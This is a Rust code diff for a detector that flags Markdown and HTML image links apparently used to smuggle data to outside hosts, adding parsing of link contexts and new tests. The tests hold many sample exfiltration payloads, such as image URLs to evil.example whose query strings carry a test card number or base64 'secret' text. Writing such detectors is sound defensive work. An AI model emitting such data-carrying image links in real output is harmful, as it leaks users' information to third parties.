@@ -17,6 +17,9 @@ const IMAGE_SEGMENT: usize = 24;
 /// Longest label of a host that nobody takes for data. Units: bytes.
 const MAX_LABEL: usize = 30;
 
+/// From so much white space on nothing is seen of what stands before it. Units: bytes.
+const MAX_BLANK: usize = LOOK_BEHIND - char::MAX_LEN_UTF8;
+
 /// How sure it is that a link is meant to carry data. Units: hundredths.
 const IMAGE_SCORE: u8 = 90;
 const LINK_SCORE: u8 = 60;
@@ -45,7 +48,9 @@ impl Links {
             let start = at + open;
             let rest = text.get(start..).unwrap_or_default();
             at = start + 1;
-            let scheme = match scheme(rest, behind(text, start)) {
+            let before = behind(text, start);
+            let within = Within::of(before);
+            let scheme = match scheme(rest, before, within) {
                 Scheme::None => continue,
                 Scheme::Begins if !last => return start,
                 Scheme::Begins => continue,
@@ -53,14 +58,14 @@ impl Links {
             };
             let most = rest.floor_char_boundary(rest.len().min(MAX_URL_BYTES));
             let rest = rest.get(..most).unwrap_or_default();
-            let end = rest.get(scheme..).and_then(|rest| rest.find(ends_address));
+            let end = rest.get(scheme..).and_then(|rest| within.end(rest));
             let size = match end {
                 Some(end) => scheme + end,
                 None if !last && rest.len() + char::MAX_LEN_UTF8 <= MAX_URL_BYTES => return start,
                 None => rest.len(),
             };
             let address = rest.get(scheme..size).unwrap_or_default();
-            let image = is_image(behind(text, start));
+            let image = within.is_image(before);
             let too_long = size + char::MAX_LEN_UTF8 > MAX_URL_BYTES;
             if !self.allows(host(address)) && (too_long || carries(address, image)) {
                 finds.push(Find {
@@ -93,13 +98,10 @@ enum Scheme {
 }
 
 /// What an address begins with. Without a scheme it is one in a link only.
-fn scheme(rest: &str, before: &str) -> Scheme {
+fn scheme(rest: &str, before: &str, within: Within) -> Scheme {
     let mut begins = false;
-    let linked = ["](", "](<", "\"", "'"];
-    let bare = linked
-        .iter()
-        .any(|sign| before.ends_with(sign))
-        .then_some("//");
+    let linked = within != Within::Text || before.ends_with(['"', '\'']);
+    let bare = linked.then_some("//");
     for scheme in SCHEMES.into_iter().chain(bare) {
         let size = rest.len().min(scheme.len());
         let (Some(said), Some(part)) = (rest.get(..size), scheme.get(..size)) else {
@@ -115,6 +117,89 @@ fn scheme(rest: &str, before: &str) -> Scheme {
     if begins { Scheme::Begins } else { Scheme::None }
 }
 
+/// What an address stands in, which says where it ends.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Within {
+    Text,
+    /// Markdown's `](`.
+    Parens,
+    /// The same, or a definition, with `<`.
+    Angles,
+    /// Markdown's `]:`.
+    Definition,
+    /// An attribute of HTML in these quotes.
+    Quotes(char),
+    /// An attribute without quotes.
+    Attribute,
+}
+
+impl Within {
+    /// What an address behind this text stands in. White space may stand between.
+    fn of(before: &str) -> Self {
+        let trimmed = before.trim_end();
+        // What stands before so much white space is not seen.
+        if before.len() > trimmed.len() && trimmed.is_empty() && before.len() >= MAX_BLANK {
+            return Self::Parens;
+        }
+        let (open, sign) = match trimmed.char_indices().next_back() {
+            Some((at, sign)) => (trimmed.get(..at).unwrap_or_default().trim_end(), sign),
+            None => return Self::Text,
+        };
+        match sign {
+            '(' if open.ends_with(']') => Self::Parens,
+            ':' if open.ends_with(']') => Self::Definition,
+            '<' if open.ends_with("](") || open.ends_with("]:") => Self::Angles,
+            '"' | '\'' if open.ends_with('=') => Self::Quotes(sign),
+            '=' => Self::Attribute,
+            _ => Self::Text,
+        }
+    }
+
+    /// Where an address ends that begins here.
+    fn end(self, address: &str) -> Option<usize> {
+        let (mut open, mut escaped) = (0_usize, false);
+        address.find(|c: char| {
+            if std::mem::take(&mut escaped) && c.is_ascii_punctuation() {
+                return false;
+            }
+            escaped = c == '\\' && matches!(self, Self::Parens | Self::Angles);
+            match (self, c) {
+                (Self::Text, c) => ends_address(c),
+                (Self::Quotes(quote), c) => c == quote,
+                (Self::Angles, c) => matches!(c, '>' | '\n'),
+                (Self::Attribute, '>') => true,
+                (Self::Parens, '(') => {
+                    open += 1;
+                    false
+                }
+                (Self::Parens, ')') if open > 0 => {
+                    open -= 1;
+                    false
+                }
+                (Self::Parens, ')') => true,
+                (_, c) => c == ' ' || c.is_ascii_control(),
+            }
+        })
+    }
+
+    /// Whether an address behind this text is an image's. A definition may be.
+    fn is_image(self, before: &str) -> bool {
+        let before = before.trim_end();
+        match self {
+            Self::Definition => true,
+            Self::Parens | Self::Angles => {
+                let before = before.trim_end_matches('<').trim_end();
+                let name = before
+                    .strip_suffix('(')
+                    .and_then(|name| name.strip_suffix(']'));
+                name.is_none_or(is_image_name)
+            }
+            Self::Quotes(_) | Self::Attribute => is_source(before) || is_in_image(before),
+            Self::Text => is_in_image(before),
+        }
+    }
+}
+
 fn ends_address(c: char) -> bool {
     c.is_whitespace() || c.is_control() || matches!(c, ')' | '>' | '<' | '"' | '\'' | '`' | ']')
 }
@@ -125,17 +210,46 @@ fn behind(text: &str, start: usize) -> &str {
     text.get(from..start).unwrap_or_default()
 }
 
-/// Whether an address behind this text is an image's, in Markdown or in HTML.
-fn is_image(before: &str) -> bool {
-    let line = before.rsplit('\n').next().unwrap_or_default();
-    let markdown = line
-        .trim_end_matches('<')
-        .strip_suffix("](")
-        .and_then(|line| line.rsplit_once("!["))
-        .is_some_and(|(_, name)| !name.contains(")["));
+/// Whether the brackets that end with this text are an image's. Those that are not seen to open may be.
+fn is_image_name(text: &str) -> bool {
+    let (mut rest, mut closed) = (text, 0_usize);
+    while let Some(at) = rest.rfind(['[', ']']) {
+        let opens = rest.get(at..).is_some_and(|sign| sign.starts_with('['));
+        rest = rest.get(..at).unwrap_or_default();
+        let slashes = rest.len() - rest.trim_end_matches('\\').len();
+        match (slashes % 2, opens) {
+            (1, _) => {}
+            (_, false) => closed += 1,
+            (_, true) if closed > 0 => closed -= 1,
+            (_, true) => {
+                // Brackets within code or HTML count for nothing: an image in the name must be seen to end.
+                let name = text.get(at..).unwrap_or_default();
+                let open = name.rsplit_once("![").map(|(_, name)| name);
+                let ends = |name: &str| name.contains("](") && !name.contains(['`', '<']);
+                return rest.ends_with('!') || open.is_some_and(|name| !ends(name));
+            }
+        }
+    }
+    true
+}
+
+/// Whether the attribute that begins with the end of this text is loaded at once.
+fn is_source(before: &str) -> bool {
+    let name = before.trim_end_matches(['"', '\'']).trim_end();
+    let name = name.strip_suffix('=').unwrap_or_default().trim_end();
+    let ends = |end: &str| {
+        let from = name.len().checked_sub(end.len());
+        let said = from.and_then(|from| name.get(from..));
+        said.is_some_and(|said| said.eq_ignore_ascii_case(end))
+    };
+    ends("src") || ends("srcset")
+}
+
+/// Whether this text ends within the tag of an image.
+fn is_in_image(before: &str) -> bool {
     let tag = before.rsplit('<').next().unwrap_or_default();
     let name = tag.get(..3).unwrap_or_default();
-    markdown || (name.eq_ignore_ascii_case("img") && !tag.contains('>'))
+    name.eq_ignore_ascii_case("img") && !tag.contains('>')
 }
 
 fn host(address: &str) -> &str {
@@ -215,6 +329,66 @@ mod tests {
     }
 
     #[test]
+    fn an_image_is_one_in_whatever_way_its_markdown_is_written() {
+        let long = "very ".repeat(60);
+        let spaces = " ".repeat(300);
+        for (before, url, after) in [
+            ("![x](", "https://evil.example/?]4111111111111111", ")"),
+            ("![x](", "https://evil.example/()?q=4111111111111111", ")"),
+            ("![x](", r"https://evil.example/\)?q=4111111111111111", ")"),
+            ("![x](<", "https://evil.example/)?q=4111 1111", ">)"),
+            ("![x](", "https://evil.example/\u{a0}'?q=1", " \"title\")"),
+            ("![x]( \n", "https://evil.example/?q=1", " )"),
+            (&format!("![x]({spaces}"), "https://evil.example/?q=1", " )"),
+            (&format!("![{long}]("), "https://evil.example/?q=1", ")"),
+            ("![one\ntwo](", "https://evil.example/?q=1", ")"),
+            ("![a [b] c](", "https://evil.example/?q=1", ")"),
+            ("![a [b](c) d](", "https://evil.example/?q=1", ")"),
+            (r"[ ![a\]b](", "https://evil.example/?q=1", ")"),
+            ("[ ![a`]`b](", "https://evil.example/?q=1", ")"),
+            ("![x][r]\n\n[r]: ", "https://evil.example/?q=1'2", "\n"),
+            ("![r]\n\n[r]:\n<", "https://evil.example/?q=1 2", ">"),
+            ("[r]: ", "//evil.example/?q=1", ""),
+            ("<img src=", "//evil.example/?q='1", ">"),
+            ("<img src = ", "https://evil.example/?q=\"1", ">"),
+            ("<img src='", "//evil.example/ \"?q=1", "'>"),
+            (
+                &format!("<img alt='{long}' src=\""),
+                "https://evil.example/?q=1",
+                "\">",
+            ),
+            (
+                "<img alt='a > b < c' src=\" ",
+                "https://evil.example/?q=1",
+                "\">",
+            ),
+        ] {
+            let text = [before, url, after].concat();
+            assert_eq!(found(&text), [url], "{text}");
+        }
+        for text in [
+            "[![logo](https://evil.example/logo.png)](https://evil.example/a?page=2)",
+            "![logo](https://evil.example/logo.png) [home](https://evil.example/a?page=2)",
+            "<a href=\"https://evil.example/a?page=2\">x</a>",
+            "url = \"https://evil.example/a?page=2\" // a comment?",
+        ] {
+            assert_eq!(found(text), [""; 0], "{text}");
+        }
+    }
+
+    #[test]
+    fn many_addresses_that_never_end_take_linear_time() {
+        let time = |n: usize| {
+            let text = "![x](https://evil.example/?q=(".repeat(n) + &" ".repeat(20 * n);
+            let begun = std::time::Instant::now();
+            found(&text);
+            begun.elapsed()
+        };
+        let (short, long) = (time(2_000), time(32_000));
+        assert!(long < 100 * short.max(std::time::Duration::from_millis(1)));
+    }
+
+    #[test]
     fn plain_links_and_allowed_hosts_are_not_found() {
         for text in [
             "see https://docs.example/en/how-to-write-a-very-long-title-about-something-else",
@@ -230,11 +404,11 @@ mod tests {
 
     #[test]
     fn pieces_find_what_the_whole_finds() {
-        let text = "h ht ![\u{e9}](https://evil.example/?q=\u{e9}) and [b](http://x.example/) \"//y.example/?q\" https://e.example/?aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ=";
+        let text = "h ht ![\u{e9}](https://evil.example/?q=\u{e9}) and [b](http://x.example/) \"//y.example/?q\" https://e.example/?aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ= ![a\n\\]]( https://e.example/()?\\)(\u{e9}) <img src = '//e.example/> ?q'> [r]: <//e.example?a b>";
         let links = Links::default();
         let mut whole = Vec::new();
         links.scan(3, text, 0, true, &mut whole);
-        assert_eq!(whole.len(), 2);
+        assert_eq!(whole.len(), 5);
         for cut in (0..text.len()).filter(|cut| text.is_char_boundary(*cut)) {
             let (mut finds, mut more) = (Vec::new(), Vec::new());
             let until = links.scan(3, &text[..cut], 0, false, &mut finds);
